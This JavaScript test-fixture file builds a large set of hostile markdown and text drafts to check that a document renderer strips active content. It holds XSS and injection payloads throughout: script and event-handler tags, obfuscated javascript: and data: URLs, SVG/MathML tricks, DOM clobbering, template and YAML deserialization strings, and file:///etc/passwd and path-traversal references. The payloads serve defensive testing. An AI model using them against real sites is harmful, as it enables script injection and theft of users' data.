// What somebody could put into a draft to have a page do more than be read. All
// of it calls fire(), asks for http://canary.invalid/ or changes what the page
// is: suite.mjs sees each of them. Names end in the draft's syntax.

const js = "fire(1)";
const far = "http://canary.invalid/x";

// A character reference for each character.
const references = (text, how) => [...text].map((c) => ({
	decimal: `&#${c.codePointAt(0)};`,
	bare: `&#${String(c.codePointAt(0)).padStart(7, "0")}`,
	hex: `&#x${c.codePointAt(0).toString(16)};`,
})[how]).join("");

const md = (...lines) => ["# A paper", "", ...lines, ""].join("\n");
const text = (...lines) =>
	["A PAPER", "", "1. PURPOSE", "", ...lines, ""].join("\n");
const front = (...lines) =>
	["---", ...lines, "---", "", "# A paper", "", "Words.", ""].join("\n");

const breakout = `"><script>${js}</script><img src=x onerror=${js}>`;
const quoted = `'"><svg onload=${js}>`;
const ending = `</script></style></title></textarea><script>${js}</script>`;

// The same in the places of an action.
const plan = (words) => md("## Actions", "",
	"| Ref | Action | Owner | Status | Due | Progress |",
	"|---|---|---|---|---|---|",
	...[1, 2, 3, 4, 5].map((i) => `| 1.${i} | ${words} | ${words} ${i} ` +
		`| ${i > 2 ? "Green" : words} | 1 March 2030 | ${words} |`));

const links = {
	plain: `javascript:${js}`,
	capitals: `JaVaScRiPt:${js}`,
	space: ` javascript:${js}`,
	tab: `java&#9;script:${js}`,
	"line-feed": `java&#10;script:${js}`,
	"carriage-return": `java&#13;script:${js}`,
	control: `&#1;javascript:${js}`,
	nul: `java&#0;script:${js}`,
	decimal: references("javascript:", "decimal") + js,
	bare: references("javascript:", "bare") + js,
	hex: references("javascript:", "hex") + js,
	"named-colon": `javascript&colon;${js}`,
	"named-tab": `java&Tab;script:${js}`,
	percent: `javascript%3A${js}`,
	"percent-inside": `%6Aavascript:${js}`,
	"wide-letters": `ｊａｖａｓｃｒｉｐｔ：${js}`,
	"soft-hyphen": `java\u00ADscript:${js}`,
	"zero-width": `\u200Bjavascript:${js}`,
	"byte-order": `\uFEFFjavascript:${js}`,
	vbscript: `vbscript:${js}`,
	"view-source": `view-source:javascript:${js}`,
	"data-html": `data:text/html,<script>parent.${js}</script>`,
	"data-base64": "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+",
	"data-svg": `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
	blob: "blob:http://canary.invalid/1",
	file: "file:///etc/passwd",
	backslashes: "\\\\\\\\canary.invalid\\\\x",
	"two-slashes": "//canary.invalid/x",
	"comment-url": `javascript://%0a${js}`,
	"quote-in-url": `http://a.example/"onmouseover="${js}`,
	"quote-in-angle": `<http://a.example/" onmouseover="${js}">`,
};

export const cases = {
	"script.md": md(`<script>${js}</script>`),
	"script-inline.md": md(`Words <script>${js}</script> and more.`),
	"script.txt": text(`<script>${js}</script>`),
	"script-open.md": md(`<script src=${far}`),
	"script-split.md": md("<scr<script></script>ipt>" + js + "</script>"),
	"script-null.txt": text(`<scr\u0000ipt>${js}</script>`),
	"script-slash.md": md(`<script/x>${js}</script>`),
	"script-cdata.md": md(`<![CDATA[<script>${js}</script>]]>`),
	"script-end.md": md(ending),
	"script-end.txt": text(ending),
	"script-in-code.md": md("```html", ending, "```", "", "`" + ending + "`"),
	"script-info.md": md("```\"><script>" + js + "</script>", "x", "```"),
	"comment.md": md(`<!--><script>${js}</script>-->`),
	"comment-odd.md": md(`<!-- --!><img src=x onerror=${js}> -->`),
	"conditional.md": md(`<!--[if gte IE 4]><script>${js}</script><![endif]-->`),
	"instruction.md": md(`<?xml-stylesheet href="${far}"?>`),
	"entities.md": md(`&lt;script&gt;${js}&lt;/script&gt;`),
	"entities-twice.md": md(`&amp;lt;img src=x onerror=${js}&amp;gt;`),
	"entities.txt": text(`&lt;img src=x onerror=${js}&gt;`),
	"entities-numbers.md": md(references(`<img src=x onerror=${js}>`, "hex")),
	"event.md": md(`<img src=x onerror=${js}>`),
	"event-block.md": md(`<div onclick=${js} onmouseover=${js}>words</div>`),
	"event-details.md": md(`<details open ontoggle=${js}>words</details>`),
	"event-focus.md": md(`<input autofocus onfocus=${js}>`),
	"event-body.md": md(`<body onload=${js}>`),
	"event-style.md": md(`<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${js}">`),
	"svg.md": md(`<svg onload=${js}><use href="${far}"/></svg>`),
	"svg-animate.md": md(`<svg><a><animate attributeName=href values="javascript:${js}"/><text>x</text></a></svg>`),
	"svg-foreign.md": md(`<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`),
	"mathml.md": md(`<math><mtext><table><mglyph><style><img src=x onerror=${js}>`),
	"frames.md": md(`<iframe src="javascript:${js}"></iframe><object data="${far}"></object><embed src="${far}">`),
	"frame-srcdoc.md": md(`<iframe srcdoc="<script>parent.${js}</script>"></iframe>`),
	"base.md": md(`<base href="${far}/">`, "", "[here](a.html)"),
	"refresh.md": md(`<meta http-equiv="refresh" content="0;url=${far}">`),
	"link-element.md": md(`<link rel="stylesheet" href="${far}">`),
	"form.md": md(`<form action="${far}"><button autofocus>Send</button></form>`),
	"template-element.md": md(`<template shadowrootmode=open><img src=x onerror=${js}></template>`),
	"noscript.md": md(`<noscript><p title="</noscript><img src=x onerror=${js}>">`),
	"textarea.md": md(`<textarea></textarea><img src=x onerror=${js}>`),
	"plaintext.md": md("<plaintext>words"),
	"css-import.md": md(`<style>@import "${far}"; main { background: url(${far}) }</style>`),
	"css-attribute.md": md(`<p style="background:url(${far});position:fixed;inset:0">words</p>`),
	"css-expression.md": md(`<p style="width:expression(${js});behavior:url(${far})">words</p>`),
	"braces.md": md(`{{constructor.constructor('${js}')()}} \${${js}} <%= ${js} %> #{${js}}`),
	"braces.txt": text(`{{constructor.constructor('${js}')()}} \${${js}} [[${js}]]`),
	"heading.md": `# ${breakout}\n\n## ${breakout}\n\n## ${quoted}\n\n## Three\n\nWords.\n`,
	"heading.txt": `A PAPER ${ending.toUpperCase()}\n\n1. ${quoted}\n\nWords.\n\n2. ${breakout}\n\nWords.\n`,
	"heading-attributes.md": md(`## Heading {#x onclick=${js} .a}`, "", "Words."),
	"title-meta.md": `# x" http-equiv="refresh" content="0;url=${far}\n\nWords.\n`,
	"title-json.md": `# \\"}</script><script>${js}</script>\n\nWords.\n`,
	"title-json-comment.md": `# <!--<script>${js}\n\nWords.\n`,
	"table.md": plan(breakout),
	"table-quotes.md": plan(quoted.replaceAll("|", "")),
	"table-json.md": plan(`</script><script>${js}</script>`),
	"table.txt": ["ACTION PLAN", "", `Ref | Action | Owner | Status`,
		`1.1 | ${breakout} | ${quoted} | Green`,
		`1.2 | ${ending} | Bob | Red`, ""].join("\n"),
	"selector.md": plan("']{} a[href='"),
	"fields.txt": `A PAPER\n\nCommittee: ${breakout}\nReport of: ${quoted}\n` +
		`Date: ${ending}\nContact: javascript:${js}\n\n1. PURPOSE\n\nWords.\n`,
	"front-title.md": front(`title: '${breakout.replaceAll("'", "''")}'`),
	"front-all.md": front(...["title", "organisation", "committee", "author",
		"reference", "date", "description", "template", "period", "scheme"]
		.map((key) => `${key}: '${ending}'`)),
	"front-quotes.md": front(...["organisation", "committee", "author",
		"reference"].map((key) => `${key}: '" onload="${js}" x="'`)),
	"front-language.md": front(`language: 'en" onload="${js}'`),
	"front-language-json.md": front("language: '</script>'"),
	"front-key.md": front(`'${breakout.replaceAll("'", "''")}': x`),
	"front-scheme.md": "---\nscheme:\n  '<script>fire(1)</script>': complete\n" +
		"---\n" + plan(`<script>${js}</script>`),
	"front-yaml.md": front("title: !!js/function 'function(){fire(1)}'",
		"author: !!python/object/apply:os.system ['true']"),
	"image.md": md(`![" onerror="${js}](x.png)`),
	"image-title.md": md(`![words](x.png "a\\" onerror=\\"${js}")`),
	"image-far.md": md(`![words](${far}.png)`),
	"image-script.md": md(`![words](javascript:${js})`),
	"image-svg.md": md(`![words](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZpcmUoMSkiLz4=)`),
	"image-outside.md": md("![words](../../../../etc/passwd)"),
	"link-title.md": md(`[words](http://a.example "x\\" onmouseover=\\"${js}")`),
	"link-reference.md": md("[words][a]", "", `[a]: javascript:${js}`),
	"autolink.md": md(`<javascript:${js}> and <vbscript:${js}>`),
	"autolink-bare.md": md(`http://a.example/"onclick="${js} www.a.example/'onclick='${js}`),
	"autolink.txt": text(`See http://a.example/"onclick="${js} or javascript:${js}.`),
	"mail.md": md(`<a@b.example"onclick="${js}> and a@b.example?subject=<script>`),
	"note.md": md(`Words[^"><script>]`, "", `[^"><script>]: ${breakout}`),
	"clobber.md": md(...["document", "querySelector", "body", "main", "data",
		"words", "_data", "_main", "_q", "status", "cookie", "children",
		"getElementById", "__proto__", "constructor", "toString"]
		.flatMap((name) => [`## ${name} {#${name}}`, "",
			`<img name=${name} id=${name}>`, ""])),
	"clobber-actions.md": md("## Actions", "",
		"| Ref | Action | Owner | Status |", "|---|---|---|---|",
		...["__proto__", "constructor", "toString", "hasOwnProperty", "q"]
			.map((name) => `| ${name} | ${name} | ${name} | ${name} |`)),
	"language-span.md": md(`<span lang='x" onclick="${js}'>words</span>`),
	"bidi.md": md(`\u202Efire(1)<tpircs>\u202C \u2066<img src=x onerror=${js}>\u2069`),
	"bidi-link.md": md(`[\u202Egro.elpmaxe](javascript:${js})`),
	"control.md": md(`<\u0001script>${js}</script> \u000B<img\u000Csrc=x\u000Conerror=${js}>`),
	"separators.md": `# a\u2028${js}\u2029//\n\nWords \u2028 more.\n`,
	"noncharacters.md": md(`\uFFFE\uFFFF<script>${js}</script>\u{1FFFF}`),
	"surrogate.txt": Buffer.concat([Buffer.from(text("Words")),
		Buffer.from([0xED, 0xA0, 0x80, 0x3C, 0x62, 0x3E])]),
	"overlong.txt": Buffer.concat([Buffer.from(text("Words")),
		Buffer.from([0xC0, 0xBC]), Buffer.from(`script>${js}</script>\n`)]),
	"cut-short.md": Buffer.concat([Buffer.from(md(`<b title="`)),
		Buffer.from([0xE2, 0x82]), Buffer.from(`"><img src=x onerror=${js}>\n`)]),
	"utf-7.txt": text(`+ADw-script+AD4-${js}+ADw-/script+AD4-`),
	"latin-1.txt": Buffer.from(text(`\xE9\xA0<img src=x onerror=${js}>`), "latin1"),
	"utf-16.txt": Buffer.from("\uFEFF" + text(`<script>${js}</script>`), "utf16le"),
	"markup-text.txt": text(`1.1. <a href="javascript:${js}">press</a>`,
		"", `a) <b onclick=${js}>x</b>`),
	"deep.md": md("> ".repeat(300) + breakout),
};
for (const [name, url] of Object.entries(links))
	cases[`link-${name}.md`] = md(`[words](${url}) and [more](<${url}>)`);
